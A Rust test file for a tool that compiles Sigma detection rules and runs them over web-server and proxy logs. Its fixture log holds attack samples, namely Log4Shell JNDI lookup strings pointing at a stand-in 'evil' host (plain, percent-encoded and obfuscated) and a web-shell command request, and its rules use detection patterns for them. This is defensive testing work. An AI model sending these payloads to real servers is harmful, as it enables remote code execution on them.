use std::path::Path;

use arrow_array::{Array, FixedSizeBinaryArray, RecordBatch};
use lasthop_normalise::ip::format_ip;

use super::*;

fn arrow_select_concat(batches: &[RecordBatch]) -> RecordBatch {
    assert_eq!(batches.len(), 1, "the test logs fit one batch");
    batches[0].clone()
}

const LOG: &str = r#"203.0.113.7 - - [03/Jun/2024:10:00:00 +0000] "GET /index.html HTTP/1.1" 200 512 "-" "Mozilla/5.0"
203.0.113.8 - - [03/Jun/2024:10:00:01 +0000] "GET /a?x=${jndi:ldap://evil/a} HTTP/1.1" 404 12 "-" "curl/8.1"
10.9.8.7 - - [03/Jun/2024:10:00:02 +0000] "POST /uploads/cmd.JSP?c=whoami HTTP/1.1" 200 44 "-" "python-requests/2.31"
203.0.113.9 - - [03/Jun/2024:10:00:03 +0000] "GET /autodiscover/autodiscover.json?@x.com/mapi/nspi HTTP/1.1" 200 99 "-" "Mozilla/5.0 zgrab"
203.0.113.10 - - [03/Jun/2024:10:00:04 +0000] "GET /100%_done?a_b HTTP/1.1" 200 1 "-" "Mozilla/5.0"
203.0.113.11 - - [03/Jun/2024:10:00:05 +0000] "GET /s?q=%24%7Bjndi%3Aldap%3A%2F%2Fx%7D HTTP/1.1" 404 1 "-" "-"
203.0.113.12 - - [03/Jun/2024:10:00:06 +0000] "GET /s?q=${${lower:j}${::-n}di:ldap://x} HTTP/1.1" 404 1 "-" "-"
"#;

/// The client addresses of the lines of `LOG` the rule matches, in order.
fn matches(rule: &str) -> Vec<String> {
    matches_with(rule, MatchOptions::default())
}

fn matches_with(rule: &str, options: MatchOptions) -> Vec<String> {
    let mut set = RuleSet::default();
    set.add_yaml("test", rule);
    assert!(set.rejected.is_empty(), "{:?}", set.rejected);
    let batch = web_batch(LOG);
    let matcher = TableMatcher::new(&set, "web", options).expect("a web rule");
    let (_, rows) = matcher.evaluate(&batch).pop().expect("one rule");
    let clients = batch.column_by_name("c_ip").unwrap();
    let clients = clients.as_any().downcast_ref::<FixedSizeBinaryArray>().unwrap();
    rows.set_indices().map(|i| format_ip(clients.value(i))).collect()
}

/// Access-log text as one `web` batch, through lasthop's own reader.
pub(crate) fn web_batch(text: &str) -> RecordBatch {
    let mut batches = Vec::new();
    lasthop_sources::read_stream(
        Path::new("access.log"),
        Box::new(std::io::Cursor::new(text.as_bytes().to_vec())),
        &Default::default(),
        |_, b| {
            batches.push(b);
            Ok::<(), ()>(())
        },
    )
    .unwrap();
    arrow_select_concat(&batches)
}

fn compile_yaml(text: &str) -> Result<(), String> {
    let mut set = RuleSet::default();
    set.add_yaml("test", text);
    match set.rejected.pop() {
        Some(r) => Err(r.reason),
        None => Ok(()),
    }
}

fn rule(detection: &str) -> String {
    format!(
        "title: t\nid: 00000000-0000-0000-0000-000000000001\nlogsource:\n  category: webserver\ndetection:\n{detection}\nlevel: high\n"
    )
}

#[test]
fn modifiers_match_as_sigma_says() {
    // contains is case-insensitive; a list is OR.
    let r = rule(
        "  sel:\n    cs-uri-stem|contains:\n      - '.jsp'\n      - autodiscover\n  condition: sel",
    );
    assert_eq!(matches(&r), ["10.9.8.7", "203.0.113.9"]);
    // |all makes the list AND.
    let r = rule(
        "  sel:\n    cs-uri-stem|contains|all:\n      - 'autodiscover.json'\n      - '/mapi/'\n  condition: sel",
    );
    assert_eq!(matches(&r), Vec::<String>::new(), "the stem is the path, not the query");
    let r = rule(
        "  sel:\n    cs-uri|contains|all:\n      - 'autodiscover.json'\n      - '/mapi/'\n  condition: sel",
    );
    assert_eq!(matches(&r), ["203.0.113.9"]);
    // SigmaHQ's convention: `cs-uri-query` is the whole request URI.
    let r = rule("  sel:\n    cs-uri-query|startswith: '/autodiscover/'\n  condition: sel");
    assert_eq!(matches(&r), ["203.0.113.9"]);
    // startswith / endswith, and a whole-value match with wildcards.
    assert_eq!(
        matches(&rule("  sel:\n    cs-user-agent|startswith: 'python-'\n  condition: sel")),
        ["10.9.8.7"]
    );
    assert_eq!(
        matches(&rule("  sel:\n    cs-user-agent|endswith: 'ZGRAB'\n  condition: sel")),
        ["203.0.113.9"]
    );
    assert_eq!(
        matches(&rule("  sel:\n    cs-user-agent: 'curl/*'\n  condition: sel")),
        ["203.0.113.8"]
    );
    assert_eq!(
        matches(&rule("  sel:\n    cs-user-agent: 'curl/?.?'\n  condition: sel")),
        ["203.0.113.8"]
    );
    // An escaped wildcard is literal, and SQL's own % and _ are literal too.
    assert_eq!(
        matches(&rule("  sel:\n    cs-uri-stem|contains: '100%_'\n  condition: sel")),
        ["203.0.113.10"]
    );
    assert_eq!(
        matches(&rule("  sel:\n    cs-uri-stem|contains: 'index\\*'\n  condition: sel")),
        Vec::<String>::new()
    );
    // cased is case-sensitive.
    assert_eq!(
        matches(&rule("  sel:\n    cs-uri-stem|contains|cased: '.jsp'\n  condition: sel")),
        Vec::<String>::new()
    );
    // re is a regular expression (case-sensitive unless it says otherwise).
    assert_eq!(
        matches(&rule("  sel:\n    cs-uri-query|re: '\\$\\{jndi:(ldap|rmi)'\n  condition: sel")),
        ["203.0.113.8", "203.0.113.11", "203.0.113.12"]
    );
    // cidr on the client address; numbers compare as numbers.
    assert_eq!(
        matches(&rule("  sel:\n    c-ip|cidr: '10.0.0.0/8'\n  condition: sel")),
        ["10.9.8.7"]
    );
    assert_eq!(
        matches(&rule("  sel:\n    sc-status: 404\n  condition: sel")),
        ["203.0.113.8", "203.0.113.11", "203.0.113.12"]
    );
    assert_eq!(
        matches(&rule("  sel:\n    sc-bytes|gt: 90\n  condition: sel")),
        ["203.0.113.7", "203.0.113.9"]
    );
    // Keywords search the raw line.
    assert_eq!(
        matches(&rule("  keywords:\n    - '${jndi:'\n  condition: keywords")),
        ["203.0.113.8", "203.0.113.11", "203.0.113.12"]
    );
    // The decoded form matches too: percent-encoded and obfuscated Log4Shell.
    assert_eq!(
        matches(&rule("  sel:\n    cs-uri-query|contains: '${jndi:ldap'\n  condition: sel")),
        ["203.0.113.8", "203.0.113.11", "203.0.113.12"]
    );
}

#[test]
fn conditions_compile_in_full() {
    let d = "  sel_a:\n    cs-method: POST\n  sel_b:\n    cs-user-agent|contains: python\n  filter:\n    c-ip|cidr: '10.0.0.0/8'\n";
    assert_eq!(matches(&rule(&format!("{d}  condition: sel_a and sel_b"))), ["10.9.8.7"]);
    assert_eq!(
        matches(&rule(&format!("{d}  condition: sel_a and not filter"))),
        Vec::<String>::new()
    );
    assert_eq!(matches(&rule(&format!("{d}  condition: all of sel_*"))), ["10.9.8.7"]);
    assert_eq!(matches(&rule(&format!("{d}  condition: 1 of sel_* or sel_a"))), ["10.9.8.7"]);
    let d2 = "  sel_a:\n    sc-status: 200\n  sel_b:\n    cs-user-agent|contains: mozilla\n";
    assert_eq!(matches(&rule(&format!("{d2}  condition: 1 of them"))).len(), 4);
    assert_eq!(
        matches(&rule(&format!("{d2}  condition: all of them"))),
        ["203.0.113.7", "203.0.113.9", "203.0.113.10"]
    );
    assert_eq!(
        matches(&rule(&format!("{d2}  condition: not (sel_a or sel_b)"))),
        ["203.0.113.8", "203.0.113.11", "203.0.113.12"]
    );
    // A list of mappings is OR.
    let r = rule("  sel:\n    - cs-method: POST\n    - sc-status: 404\n  condition: sel");
    assert_eq!(matches(&r), ["203.0.113.8", "10.9.8.7", "203.0.113.11", "203.0.113.12"]);
}

#[test]
fn every_shipped_rule_compiles_or_is_reported() {
    let set = RuleSet::bundled();
    eprintln!(
        "shipped webserver/proxy rules: {} compiled, {} reported unsupported",
        set.rules.len(),
        set.rejected.len()
    );
    for r in &set.rejected {
        eprintln!("  {} {}: {}", r.origin, r.id, r.reason);
    }
    let documents: usize = std::iter::once(BUNDLED_SIGMAHQ)
        .chain(BUNDLED_LASTHOP)
        .map(|b| b.split("\n---\n").count())
        .sum();
    let ours = set.rules.iter().filter(|r| r.origin.starts_with("lasthop/")).count();
    eprintln!("  of which lasthop's own: {ours}");
    assert_eq!(set.rules.len() + set.rejected.len(), documents);
    assert!(set.rejected.iter().all(|r| !r.id.is_empty() && !r.reason.is_empty()));
    // Shared tests are interned once.
    let atoms = set.atoms("web").len() + set.atoms("http").len();
    eprintln!("distinct atoms: {atoms}");
    // Every compiled rule evaluates over an empty and a real batch.
    for table in ["web", "http"] {
        let matcher = TableMatcher::new(&set, table, MatchOptions::default()).unwrap();
        assert!(!matcher.columns().is_empty());
    }
    let batch = web_batch(LOG);
    let matcher = TableMatcher::new(&set, "web", MatchOptions::default()).unwrap();
    let list = matcher.matching_rules(&batch);
    assert_eq!(list.len(), batch.num_rows());
}

#[test]
fn what_cannot_be_compiled_says_why() {
    let err = |d: &str| compile_yaml(&rule(d)).unwrap_err();
    assert!(
        err("  sel:\n    cs-uri-query|base64offset|contains: 'x'\n  condition: sel")
            .contains("Base64Offset")
    );
    assert!(err("  sel:\n    cs-cookie: 'x'\n  condition: sel").contains("cs-cookie"));
    assert!(
        err("  sel:\n    cs-uri-query|re: '(?<=a)b'\n  condition: sel")
            .contains("regular expression")
    );
    assert!(err("  sel:\n    cs-method: GET\n  condition: nothere").contains("nothere"));
    assert!(err("  sel:\n    c-ip|cidr: 'not-a-net'\n  condition: sel").contains("network"));
    assert!(err("  sel:\n    cs-method|cidr: '10.0.0.0/8'\n  condition: sel").contains("cidr"));
    // A regular expression too large to compile is refused, not run.
    let huge = "  sel:\n    cs-uri-query|re: '(a|b|c){1000}{1000}'\n  condition: sel";
    assert!(err(huge).contains("regular expression"));
    // A rejected rule leaves nothing behind in its table's pool.
    let mut set = RuleSet::default();
    set.add_yaml("a", &rule("  sel:\n    cs-method: GET\n  condition: sel"));
    let before = set.atoms("web").len();
    set.add_yaml("b", &rule("  sel:\n    cs-uri-stem: '/x'\n    cs-cookie: y\n  condition: sel"));
    assert_eq!(set.atoms("web").len(), before);
    assert_eq!(set.rejected.len(), 1);
}

#[test]
fn the_remaining_modifiers_and_forms() {
    // Regex flags: |i makes it case-insensitive.
    assert!(
        matches(&rule("  sel:\n    cs-uri-stem|re: 'CMD\\.JSP$'\n  condition: sel")).is_empty()
    );
    assert_eq!(
        matches(&rule("  sel:\n    cs-uri-stem|re|i: 'cmd\\.jsp$'\n  condition: sel")),
        ["10.9.8.7"]
    );
    // neq: the value differs (and the field is there).
    assert_eq!(
        matches(&rule("  sel:\n    sc-status|neq: 200\n  filter:\n    cs-method: POST\n  condition: sel and not filter")).len(),
        7 - 4
    );
    assert_eq!(matches(&rule("  sel:\n    cs-method|neq: GET\n  condition: sel")), ["10.9.8.7"]);
    // exists and null: the referer is logged as `-`, which is no referer.
    assert_eq!(matches(&rule("  sel:\n    cs-referer|exists: true\n  condition: sel")).len(), 0);
    assert_eq!(matches(&rule("  sel:\n    cs-referer: null\n  condition: sel")).len(), 7);
    assert_eq!(
        matches(&rule("  sel:\n    cs-user-agent|exists: false\n  condition: sel")).len(),
        2
    );
    // A wildcard in the middle of a whole-value pattern.
    assert_eq!(
        matches(&rule("  sel:\n    cs-uri-stem: '/uploads/*.jsp'\n  condition: sel")),
        ["10.9.8.7"]
    );
    // N of: two of three selections.
    let d = "  sel_a:\n    cs-method: POST\n  sel_b:\n    cs-user-agent|contains: python\n  sel_c:\n    sc-status: 200\n";
    assert_eq!(matches(&rule(&format!("{d}  condition: 1 of sel_*"))).len(), 4);
    assert_eq!(matches(&rule(&format!("{d}  condition: 2 of sel_*"))), ["10.9.8.7"]);
    assert_eq!(matches(&rule(&format!("{d}  condition: 3 of sel_*"))), ["10.9.8.7"]);
    // Numbers compare as numbers; lte and gte.
    assert_eq!(matches(&rule("  sel:\n    sc-bytes|lte: 1\n  condition: sel")).len(), 3);
    assert_eq!(matches(&rule("  sel:\n    sc-status|gte: 404\n  condition: sel")).len(), 3);
    // Decoding can be turned off (the differential test against rsigma does).
    let r = rule("  sel:\n    cs-uri-query|contains: '${jndi:ldap'\n  condition: sel");
    assert_eq!(matches_with(&r, MatchOptions { decode: false }), ["203.0.113.8"]);
}

#[test]
fn a_test_shared_by_rules_is_one_atom_and_literals_share_an_automaton() {
    let mut set = RuleSet::default();
    for (i, m) in ["contains", "startswith", "endswith", "contains"].iter().enumerate() {
        set.add_yaml(
            &format!("r{i}"),
            &rule(&format!("  sel:\n    cs-uri-query|{m}: 'jndi'\n  condition: sel")),
        );
    }
    assert_eq!(set.rules.len(), 4);
    assert_eq!(set.atoms("web").len(), 3, "the two contains are one atom");
}

#[test]
fn proxy_rules_read_zeek_http_fields() {
    use arrow_array::StringArray;
    use std::sync::Arc;
    let uri = StringArray::from(vec![Some("/a/shell.jsp?cmd=id"), Some("/index.html"), None]);
    let host = StringArray::from(vec![Some("victim.example"), Some("www.example"), Some("x")]);
    let batch = RecordBatch::try_from_iter([
        ("uri", Arc::new(uri) as arrow_array::ArrayRef),
        ("host", Arc::new(host) as arrow_array::ArrayRef),
    ])
    .unwrap();
    let proxy = |d: &str| {
        let mut set = RuleSet::default();
        set.add_yaml(
            "p",
            &format!("title: p\nid: p\nlogsource:\n  category: proxy\ndetection:\n{d}\n"),
        );
        assert!(set.rejected.is_empty(), "{:?}", set.rejected);
        let m = TableMatcher::new(&set, "http", MatchOptions::default()).unwrap();
        m.evaluate(&batch)[0].1.set_indices().collect::<Vec<_>>()
    };
    assert_eq!(proxy("  sel:\n    c-uri-extension: jsp\n  condition: sel"), [0]);
    assert_eq!(proxy("  sel:\n    c-uri-query|startswith: 'cmd='\n  condition: sel"), [0]);
    assert_eq!(proxy("  sel:\n    c-uri-stem|endswith: '.html'\n  condition: sel"), [1]);
    assert_eq!(proxy("  sel:\n    cs-uri|startswith: 'victim.example/a/'\n  condition: sel"), [0]);
    assert_eq!(proxy("  keywords:\n    - 'www.example'\n  condition: keywords"), [1]);
}

#[test]
fn decoding_never_widens_a_filter_and_modifiers_must_agree() {
    // These records match as logged (the filter sees no `${jndi` in the encoded or obfuscated
    // query), so decoding, which would make the filter hold, cannot hide them.
    let r = rule(
        "  sel:\n    cs-uri-query|contains: 'q='\n  filter:\n    cs-uri-query|contains: '${jndi'\n  condition: sel and not filter",
    );
    assert_eq!(matches(&r), ["203.0.113.11", "203.0.113.12"]);
    // A number with a text modifier is text.
    assert_eq!(matches(&rule("  sel:\n    sc-status|startswith: 4\n  condition: sel")).len(), 3);
    // Conflicting ways of matching, and regex flags without `re`, are reported.
    let err = |d: &str| compile_yaml(&rule(d)).unwrap_err();
    assert!(
        err("  sel:\n    cs-method|contains|endswith: 'x'\n  condition: sel").contains("conflict")
    );
    assert!(err("  sel:\n    cs-method|contains|i: 'x'\n  condition: sel").contains("needs `re`"));
    // Selection-name patterns with several wildcards.
    let d = "  sel_web_a:\n    cs-method: POST\n  sel_x_b:\n    cs-method: GET\n";
    assert_eq!(matches(&rule(&format!("{d}  condition: all of sel*_a"))), ["10.9.8.7"]);
    assert_eq!(matches(&rule(&format!("{d}  condition: 1 of s*_*_b"))).len(), 6);
}

#[test]
fn the_regex_size_limit_is_a_setting_that_replays() {
    let rule = |id: u32| {
        format!(
            "title: r{id}\nid: 6f0d3a7e-0000-4000-8000-{id:012}\nlogsource:\n  category: webserver\n\
             detection:\n  sel:\n    cs-uri-query|re: 'a{{200}}b'\n  condition: sel\nlevel: high\n"
        )
    };
    let mut set = RuleSet::default();
    set.add_yaml("default", &rule(1));
    set.set_regex_size_limit(1000);
    set.add_yaml("small", &rule(2));
    assert_eq!(set.rules.len(), 1, "{:?}", set.rejected);
    assert!(set.rejected[0].reason.contains("size limit"), "{:?}", set.rejected);
    assert_eq!(set.rejected[0].origin, "small");
    let again = RuleSet::from_sources(set.sources());
    assert_eq!(again.rules.len(), 1);
    assert_eq!(again.rejected.len(), 1);
    // Wildcards turn into regular expressions too, and are bounded the same way.
    let mut wild = RuleSet::default();
    wild.set_regex_size_limit(1000);
    wild.add_yaml(
        "wild",
        &rule(3).replace(
            "cs-uri-query|re: 'a{200}b'",
            &format!("cs-uri-query: '{}'", "*a?".repeat(500)),
        ),
    );
    assert!(
        wild.rules.is_empty() && wild.rejected[0].reason.contains("wildcard"),
        "{:?}",
        wild.rejected
    );
}
